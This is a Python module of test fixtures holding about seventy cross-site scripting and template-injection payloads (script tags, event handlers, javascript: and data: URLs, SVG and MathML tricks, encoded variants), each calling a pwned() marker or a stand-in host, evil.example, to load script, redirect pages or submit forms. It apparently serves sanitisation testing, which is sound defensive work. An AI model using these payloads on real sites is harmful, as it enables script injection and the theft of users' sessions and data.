"""What people with bad intentions type where a name or a story is asked for.

Each carries a call of `pwned()` or an address at evil.example, so that a browser can tell whether
anything of it had an effect.
"""

from itertools import islice

SCRIPTS = (
    "<script>pwned()</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt>pwned()</sCrIpT>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<script\x0b>pwned()</script>",
    "<script>pwned()//",
    "</script><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</style><script>pwned()</script>",
    "--><script>pwned()</script><!--",
    "]]><script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<img src=//evil.example/x.png>",
    '"><img src=x onerror=pwned()>',
    "'><img src=x onerror=pwned()>",
    "<img/src/onerror=pwned()>",
    "<img src=x onerror\t=\tpwned()>",
    "<img src=`x`onerror=pwned()>",
    "<image href=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg/onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:pwned()><text>x</text></a></svg>",
    "<math><mi//xlink:href='data:x,<script>pwned()</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<body onload=pwned()>",
    "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=//evil.example></iframe>",
    "<object data=javascript:pwned()></object>",
    "<embed src=//evil.example/x.swf>",
    "<input autofocus onfocus=pwned()>",
    '" autofocus onfocus=pwned() x="',
    "' autofocus onfocus=pwned() x='",
    '" onmouseover="pwned()',
    "<details open ontoggle=pwned()>",
    "<marquee onstart=pwned()>x</marquee>",
    "<video src=x onerror=pwned()></video>",
    "<audio src=x onerror=pwned()></audio>",
    "<video><source onerror=pwned()></video>",
    "<select autofocus onfocus=pwned()></select>",
    "<form action=//evil.example><button>x</button></form>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=background:url(//evil.example/x)>x</div>",
    "<a href=javascript:pwned()>x</a>",
    "<a href='java&#x0a;script:pwned()'>x</a>",
    "<a href=data:text/html,<script>pwned()</script>>x</a>",
    "[x](javascript:pwned())",
    "![x](//evil.example/x.png)",
    "[x](//evil.example)",
    '[x](/help"onmouseover="pwned())',
    "javascript:pwned()",
    "{{ config }}{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${pwned()}#{pwned()}",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "%3Cscript%3Epwned()%3C/script%3E",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "＜script＞pwned()＜/script＞",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<template><script>pwned()</script></template>",
    "<isindex action=javascript:pwned() type=image>",
)


def of_at_most(most: int) -> list[str]:
    """Return those that fit into a field so long."""
    return [one for one in SCRIPTS if len(one) <= most]


def packed(most: int) -> list[str]:
    """Return texts that together hold every payload that fits, each as full as it may be."""
    texts, rest = [""], iter(of_at_most(most))
    for payload in rest:
        if len(texts[-1]) + len(payload) > most:
            texts.append("")
        texts[-1] += payload
    return list(islice(texts, len(SCRIPTS)))
